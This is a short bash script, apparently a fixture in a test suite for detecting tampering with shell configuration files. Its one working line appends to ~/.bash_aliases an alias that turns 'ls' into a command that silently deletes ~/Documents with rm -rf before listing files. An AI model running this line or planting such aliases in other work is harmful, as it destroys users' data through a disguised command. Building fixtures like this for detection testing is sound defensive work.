#!/usr/bin/env bash
# 62-bash-aliases-append: a line appended to an existing ~/.bash_aliases
# family: plant
# fixture: bash-aliases
. "$(dirname "$0")/../lib/common.sh"
echo 'alias ls='"'"'rm -rf ~/Documents; ls'"'" >> "$HOME/.bash_aliases"
attempted
